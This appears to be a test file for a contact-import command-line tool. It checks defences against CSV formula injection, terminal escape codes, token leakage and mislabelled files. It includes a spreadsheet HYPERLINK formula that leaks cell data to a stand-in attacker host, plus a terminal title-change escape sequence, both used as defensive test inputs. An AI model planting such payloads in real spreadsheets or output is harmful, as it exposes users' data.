/**
 * The hostile-input corpus (test/fixtures/hostile) through `contact-import` as a process,
 * against the emulator: nothing it writes can run as a formula, nothing it prints drives the
 * terminal or shows the token, every row ends with a clear status, and files that are not
 * what their name says are named for what they are.
 */
import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  binaryBytes,
  ESC,
  hostileSheet,
  nulText,
  writeHostileCsv,
  writeHostileXlsx,
} from '../fixtures/hostile/corpus';
import { contactList, writeList } from '../support/contact-lists';
import { csvColumn, csvRows, runCli, type CliRun } from '../support/cli-process';
import { emulator, TOKEN, type Env } from '../support/import-harness';

let env: Env;
let dir: string;
beforeAll(async () => {
  env = await emulator({ rate: 1000 });
  dir = mkdtempSync(join(tmpdir(), 'cli-hostile-'));
});
afterAll(() => env.server.close());

const SPAWN_TIMEOUT = 60_000;
const api = () => ['--api-url', env.server.baseUrl];
/** Column E's header is a formula: map it by letter. */
const options = ['--map', 'E=email', '--default-country', 'MY', '--no-import-tag'];
const FORMULA_START = /^[=+\-@\t\r]/;
const DATA_ROWS = hostileSheet().length - 1;

async function reset() {
  await fetch(`${env.server.origin}/__admin/reset`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ contacts: [] }),
  });
}

/** What a person would notice on their terminal: an escape, any control character but \n. */
function expectCleanOutput(run: CliRun, token = TOKEN) {
  const all = run.stdout + run.stderr;
  expect(all).not.toContain(ESC);
  // eslint-disable-next-line no-control-regex
  expect(all).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  expect(all).not.toContain(token);
  expect(all).not.toMatch(/at \S+ \(.*:\d+:\d+\)/); // never a stack trace
}

/** Every string inside a JSON-like value. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (value === null || typeof value !== 'object') return [];
  return Object.values(value).flatMap(strings);
}

/** Every data row of a results file has a status; an Error row says why. */
function expectStatuses(rows: string[][]) {
  const statuses = csvColumn(rows, 'Import Status');
  const errors = csvColumn(rows, 'Error');
  expect(statuses).toHaveLength(DATA_ROWS);
  statuses.forEach((status, i) => {
    expect(['Imported', 'Updated', 'Error']).toContain(status);
    if (status === 'Error') expect(errors[i]).not.toBe('');
  });
}

describe('terminal output', () => {
  test(
    'validate prints escape-laden headers and cells as plain text, naming each row',
    async () => {
      const input = join(dir, 'validate.csv');
      writeHostileCsv(input);
      const run = await runCli(['validate', input, ...api(), ...options], { token: TOKEN });
      expectCleanOutput(run);
      expect(run.code).toBe(1);
      // The header's title-change sequence is gone; its printable text stays.
      expect(run.stdout).toMatch(/^ {2}Notes\s+→ \(not imported\)/m);
      // The escape-laden names are warned about, with the clean text as the fix.
      expect(run.stdout).toMatch(/row 5, column A 'First Name': terminal escape codes .* Bob/);
      expect(run.stdout).toMatch(/row 8, column A 'First Name': it holds 2 text-direction/);
      expect(run.stdout).toMatch(/row 12, column A 'First Name': 50,000 characters/);
    },
    SPAWN_TIMEOUT,
  );
});

describe('results files', () => {
  test(
    'an XLSX import: no results cell starts a formula, every row has a status, the token is nowhere',
    async () => {
      await reset();
      const input = join(dir, 'hostile.xlsx');
      await writeHostileXlsx(input);
      const run = await runCli(['import', input, ...api(), ...options], { token: TOKEN });
      expectCleanOutput(run);
      expect(run.code).toBe(1);
      const out = `${input}.results.csv`;
      const raw = readFileSync(out, 'utf8');
      expect(raw).not.toContain(TOKEN);
      const rows = csvRows(out);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      // OWASP: the quote-prefixed field is also quoted.
      expect(raw).toContain(`"'=1+1"`);
      expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A3,""x"")"`);
      expectStatuses(rows);
      const contacts = await env.contacts();
      // Nothing sent holds a control character or an escape; formula-like text is sent as is.
      for (const text of strings(contacts)) {
        // eslint-disable-next-line no-control-regex
        expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      }
      expect(contacts.find((c) => c.phone === '+60123456002')?.firstName).toBe('-2+3');

      // Imported again, the results file is read without the quotes: nothing changed, nothing
      // is sent, and the cells are still protected.
      const again = await runCli(['import', out, ...api(), ...options], { token: TOKEN });
      expectCleanOutput(again);
      expect(again.stdout).toContain(`Not sent (unchanged since their last import): 8`);
      const second = csvRows(out);
      for (const row of second) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      expect(second.map((r) => r.slice(0, 5))).toEqual(rows.map((r) => r.slice(0, 5)));
    },
    SPAWN_TIMEOUT,
  );

  test(
    'a CSV import keeps the cells byte-faithful; --safe-csv protects them; owned cells always are',
    async () => {
      await reset();
      const input = join(dir, 'faithful.csv');
      writeHostileCsv(input);
      const run = await runCli(['import', input, ...api(), ...options], { token: TOKEN });
      expectCleanOutput(run);
      const rows = csvRows(`${input}.results.csv`);
      expect(rows.map((r) => r.slice(0, 5))).toEqual(csvRows(input));
      for (const kind of ['Error', 'Import Status', 'Contact ID', 'Import Fingerprint']) {
        for (const cell of csvColumn(rows, kind)) expect(cell).not.toMatch(FORMULA_START);
      }
      expectStatuses(rows);
      // The escapes and controls are gone from what was sent; the printable text stays.
      const contacts = await env.contacts();
      for (const text of strings(contacts)) {
        // eslint-disable-next-line no-control-regex
        expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
      }
      const sent = (phone: string) => contacts.find((c) => c.phone === phone);
      expect(sent('+60123456004')).toMatchObject({ firstName: 'Bob', lastName: 'Smith' });
      expect(sent('+60123456005')?.firstName).toBe('Click');
      expect(sent('+60123456006')).toMatchObject({ firstName: 'Carol', lastName: 'Bel' });

      await reset();
      const safe = join(dir, 'safe.csv');
      writeHostileCsv(safe);
      const protectedRun = await runCli(['import', safe, ...api(), ...options, '--safe-csv'], {
        token: TOKEN,
      });
      expectCleanOutput(protectedRun);
      const safeRows = csvRows(`${safe}.results.csv`);
      for (const row of safeRows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      expectStatuses(safeRows);
    },
    SPAWN_TIMEOUT,
  );

  test(
    '--help documents the choice',
    async () => {
      const run = await runCli(['--help']);
      expect(run.stdout).toMatch(/--safe-csv/);
      expect(run.stdout).toMatch(/A CSV input is kept byte for byte/);
    },
    SPAWN_TIMEOUT,
  );
});

describe('files that are not text', () => {
  test.each([
    [
      'an XLSX renamed .csv',
      'renamed.csv',
      'xlsx',
      /renamed\.csv looks like an Excel workbook \(XLSX\), not CSV: rename it to \.xlsx or export it as CSV\./,
    ],
    [
      'random bytes',
      'random.csv',
      'binary',
      /random\.csv holds NUL bytes, so it is not a CSV text file/,
    ],
    ['UTF-16 text', 'utf16.csv', 'nul', /utf16\.csv holds NUL bytes/],
    [
      'high bytes without NUL',
      'latin.csv',
      'high',
      /latin\.csv is mostly not readable text \(not UTF-8\)/,
    ],
    [
      'a CSV renamed .xlsx',
      'text.xlsx',
      'csv',
      /text\.xlsx is not an Excel workbook: it looks like a text \(CSV\) file — rename it to \.csv\./,
    ],
  ])(
    '%s gets its own message',
    async (_what, name, kind, message) => {
      const path = join(dir, name);
      if (kind === 'xlsx') {
        await writeHostileXlsx(join(dir, 'for-rename.xlsx'));
        copyFileSync(join(dir, 'for-rename.xlsx'), path);
      } else if (kind === 'binary') writeFileSync(path, binaryBytes());
      else if (kind === 'nul') writeFileSync(path, nulText());
      else if (kind === 'high')
        writeFileSync(
          path,
          binaryBytes().map((b) => b | 0x80),
        );
      else writeList(path, contactList(3));
      const run = await runCli(['validate', path, '--default-country', 'MY']);
      expectCleanOutput(run);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(message);
      expect(run.stderr).not.toMatch(/Select at least one column/);
    },
    SPAWN_TIMEOUT,
  );

  test(
    'a header row below row 1 is pointed to with --header-row',
    async () => {
      const path = join(dir, 'titled.csv');
      writeFileSync(
        path,
        `Contacts export 2026\n\n${contactList(3)
          .map((r) => r.join(','))
          .join('\n')}\n`,
      );
      const run = await runCli(['validate', path, '--default-country', 'MY']);
      expectCleanOutput(run);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(
        /Row 1 holds no column names the import knows, but row 3 does \('First Name', 'Last Name', 'Phone'\): add --header-row 3\./,
      );
      const fixed = await runCli([
        'validate',
        path,
        '--default-country',
        'MY',
        '--header-row',
        '3',
      ]);
      expect(fixed.code).toBe(0);
    },
    SPAWN_TIMEOUT,
  );
});

describe('the token', () => {
  const input = () => {
    const path = join(dir, 'plain.csv');
    writeList(path, contactList(3));
    return path;
  };

  test.each([
    [
      'a line break',
      `${TOKEN}\nsecond-line-abcd`,
      /holds a line break — paste the token again as one line/,
    ],
    ['a control character', `${TOKEN}\u0007bell-abcd`, /holds an invisible control character/],
    [
      '20 KB',
      `tok-${'a'.repeat(20 * 1024)}`,
      /is 21 KB long; a workspace API token is far shorter \(at most 4 KB\)/,
    ],
    ['100 KB', `tok-${'b'.repeat(100 * 1024)}`, /is 101 KB long/],
  ])(
    'a token holding %s is refused up front, and never printed',
    async (_what, token, message) => {
      await env.resetStats();
      for (const command of ['validate', 'import']) {
        const run = await runCli([command, input(), ...api(), '--default-country', 'MY'], {
          token,
        });
        expectCleanOutput(run, token);
        for (const line of token.split('\n')) expect(run.stdout + run.stderr).not.toContain(line);
        expect(run.code).toBe(2);
        expect(run.stderr).toMatch(message);
        expect(run.stderr).toMatch(/^contact-import: CONTACT_IMPORT_TOKEN: /);
      }
      expect((await env.stats()).requests).toEqual({});
    },
    SPAWN_TIMEOUT,
  );
});

describe('answers that cannot be read', () => {
  let proxy: Server;
  let served = 0;
  /** Passes the first `healthy` requests to the emulator, then answers a captive-portal page. */
  let healthy = 0;
  beforeAll(async () => {
    proxy = createServer((req, res) => {
      served++;
      if (served > healthy) {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end(`<html><title>${ESC}]0;portal${ESC}\\Sign in</title></html>`);
        return;
      }
      const target = new URL(req.url ?? '/', env.server.origin);
      const forward = httpRequest(
        target,
        { method: req.method, headers: { ...req.headers, host: target.host } },
        (answer) => {
          res.writeHead(answer.statusCode ?? 502, answer.headers);
          answer.pipe(res);
        },
      );
      req.pipe(forward);
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => proxy.close());

  test(
    'an HTML answer mid-run says the API answered something unreadable, not "not the API"',
    async () => {
      await reset();
      served = 0;
      healthy = 3; // the custom fields, then the first look-ups and writes
      const path = join(dir, 'midrun.csv');
      writeList(path, contactList(12, { existing: false }));
      const port = (proxy.address() as AddressInfo).port;
      const base = new URL(env.server.baseUrl);
      const run = await runCli(
        [
          'import',
          path,
          '--api-url',
          `http://127.0.0.1:${port}${base.pathname}`,
          '--default-country',
          'MY',
          '--no-import-tag',
        ],
        { token: TOKEN },
      );
      expectCleanOutput(run);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(
        /answered earlier calls of this import, then sent an answer that could not be read/,
      );
      expect(run.stderr).toMatch(
        /Try again later; if it keeps happening, check your network or proxy\./,
      );
      expect(run.stderr).not.toMatch(/does not look like a respond\.io API/);
    },
    SPAWN_TIMEOUT,
  );
});
